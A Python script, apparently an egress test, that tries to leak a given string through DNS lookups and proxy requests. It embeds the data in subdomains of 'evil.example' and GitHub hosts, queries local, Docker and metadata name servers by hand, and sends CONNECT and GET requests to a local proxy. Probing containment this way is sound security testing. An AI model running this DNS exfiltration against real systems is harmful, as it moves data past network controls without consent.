"""
Carries data out by names alone: whoever runs the name servers of a domain reads each name that is looked up below it, and
needs no connection. Looked up by the system's resolver and by hand at every name server that a container could have, and
asked of the way out as targets: hosts below allowed ones, with allowed ones in front, with a wrong port, in clear.
Success: the server resolves a name that holds the data.
  name-data-to-a-resolver.py DATA
"""
import os, socket, struct, subprocess, sys

data = sys.argv[1]
domains = ['evil.example', 'github.com', 'codeload.github.com', 'raw.githubusercontent.com', 'github.com.evil.example', 'local']
names = [f'{data}.{domain}' for domain in domains] + [f'x.{data}.github.com', f'github.com.{data}.example', f'{data}-github.com']


def query(name):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    return struct.pack('>6H', 7, 0x0100, 1, 0, 0, 0) + labels + b'\0\0\1\0\1'


def by_hand(name, server):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            with socket.socket(socket.AF_INET, kind) as connection:
                connection.settimeout(0.2)
                connection.connect((server, 53))
                asked = query(name)
                connection.sendall(asked if kind == socket.SOCK_DGRAM else struct.pack('>H', len(asked)) + asked)
                print('ANSWERED', server, name, connection.recv(512).hex())
        except OSError:
            pass


def by_the_way_out(request):
    try:
        with socket.create_connection(('127.0.0.1', 3128), 3) as connection:
            connection.sendall(request.encode('latin1'))
            return connection.recv(400).split(b'\r\n')[0].decode('latin1')
    except OSError as error:
        return type(error).__name__


for name in names[:3]:
    for variables in ({}, {'RES_OPTIONS': 'use-vc attempts:1 timeout:1', 'LOCALDOMAIN': 'github.com'}, {'HOSTALIASES': '/tmp/aliases'}):
        subprocess.run(['timeout', '2', 'getent', 'hosts', name], env={**os.environ, **variables}, capture_output=True)
for server in ('127.0.0.1', '127.0.0.11', '127.0.0.53', '172.17.0.1', '169.254.169.254'):
    by_hand(names[0], server)
for name in names:
    for target in (f'{name}:443', f'{name}.:443', f'{name.upper()}:443', f'{name}:80', f'{name}:53', f'user@{name}:443'):
        print(target, by_the_way_out(f'CONNECT {target} HTTP/1.1\r\nHost: github.com:443\r\n\r\n'))
    print(name, by_the_way_out(f'GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n'))
    print(name, by_the_way_out(f'GET /acme/books.git/info/refs HTTP/1.1\r\nHost: {name}\r\n\r\n'))
print(f'-- {8 * len(names)} requests')
